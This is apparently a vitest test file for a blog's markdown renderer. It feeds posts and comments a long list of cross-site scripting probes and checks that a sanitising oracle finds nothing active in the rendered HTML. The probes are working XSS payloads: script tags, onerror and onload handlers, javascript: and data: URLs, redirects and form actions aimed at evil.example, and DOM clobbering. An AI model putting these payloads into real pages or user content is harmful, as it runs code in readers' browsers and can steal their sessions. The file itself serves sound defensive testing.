import { expect, test } from "vitest";
import { cleanVerdict, judge } from "../../test/markdown-oracle.ts";
import { renderComment, renderPost } from "./render.ts";

/** What people have put into blogs to run something in the reader's browser. */
const probes: readonly string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror="alert(1)" />',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)"></style></mglyph></table></mtext></math>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<iframe src="javascript:alert(1)" />',
  '<YouTubeIframe src="javascript:alert(1)" />',
  '<Illustration src="javascript:alert(1)" alt="x" />',
  '<Illustration src="data:image/svg+xml,<svg onload=alert(1)>" alt="x" />',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  "<a href={'javascript:alert(1)'}>x</a>",
  '<Card href="javascript:alert(1)">x</Card>',
  '<LearnMore path="//evil.example">x</LearnMore>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">x</div>',
  '<Note title="<img src=x onerror=alert(1)>">x</Note>',
  "<Note title={`<img src=x onerror=alert(1)>`}>\nx\n</Note>",
  '<Unknown title="</p><script>alert(1)</script>">\nx\n</Unknown>',
  "<form action=//evil.example><input name=cookie></form>",
  "<a name=cookie></a><form id=document><input id=getElementById></form>",
  "## location {/*location*/}",
  '## x {#x"onmouseover="alert(1)}',
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\\javascript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](//evil.example)",
  "[x](/\\evil.example)",
  "[x](http:evil.example)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](x "\\"onerror=\\"alert(1)")',
  '![x"onerror="alert(1)](x)',
  '[x](/y "\\" onmouseover=\\"alert(1)")',
  "<javascript:alert(1)>",
  "[x]: javascript:alert(1)\n\n[x]",
  '```js"onmouseover="alert(1)\nx\n```',
  '```js title="</figcaption><script>alert(1)</script>"\nx\n```',
  "```<script> src/<script>.js\n<script>\n```",
  "``` &quot;onload=alert(1)\nx\n```",
  "| a |\n|:-:|\n| <script>alert(1)</script> |",
  "[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><script>alert(1)</script></template>",
  "<style>@import '//evil.example'</style>",
  "<base href=//evil.example>",
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  "<object data=javascript:alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<Details open ontoggle={alert(1)}>\nx\n</Details>",
  "{(() => alert(1))()}",
  "{`$\u007balert(1)}`}",
  "export const x = alert(1)",
  'import "//evil.example/x.js"',
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php alert(1) ?>",
  'https://example.com/"onmouseover="alert(1)',
  "www.example.com<script>",
  "`code\u202eevil`",
  "<b>**<i>x**</b></i>",
  "<a href=/a>[x](/b)<a href=/c>y</a></a>",
  "[<a href=/b>x</a>](/c)",
  "<div>\n\n- <Note>\n\n</div>\n\n</Note>",
  "> <Note>\n\nx\n\n> </Note>",
  "1. <details>\n\nx\n</details>",
  "<p><p><div></p></div>",
  "<ul>x<li>y</li></ul>",
  "<table><tr><td>x</td></tr></table>",
];

const profiles = [
  ["post", (markdown: string) => renderPost(markdown).html],
  ["comment", (markdown: string) => renderComment(markdown).html],
] as const;

test.each(profiles)("no probe leaves anything active in a %s", (_name, render) => {
  for (const probe of probes) {
    const html = render(probe);
    expect(judge(html), probe).toEqual(cleanVerdict(html));
  }
});

test.each(profiles)("probes stay harmless beside and inside each other in a %s", (_name, render) => {
  for (const distance of [1, 5, 17, 31]) {
    const pairs = probes.map((probe, index) => [probe, probes[(index + distance) % probes.length]] as const);
    const html = render(pairs.map(([a, b]) => `${a} ${b}\n> ${b}\n- ${a}`).join("\n"));
    expect(judge(html), `distance ${distance}`).toEqual(cleanVerdict(html));
  }
});

test("the judge refuses what it is there to refuse", () => {
  const active = ["<a href='javascript:x'>x</a>", "<p style='color:red'>x</p>", "<p class='mine'>x</p>"];
  for (const html of [...active, "<script>x</script>", "<img src='data:x' alt=''>", "<p onclick='x'>x</p>"]) {
    const { read, sanitised } = judge(html);
    expect(sanitised, html).not.toBe(read);
  }
  expect(judge("<p>\u0001</p>").parseErrors).not.toEqual([]);
  for (const html of [
    "<p><b>x</p></b>",
    "<p><div>x</div></p>",
    "<ul><li>x</ul>",
    "<a href='/'><a href='/'>x</a></a>",
  ]) {
    expect(judge(html).repairedTags, html).not.toEqual([]);
  }
  expect(judge('<h2 id="location">x</h2>').foreignIds).toEqual(["location"]);
});
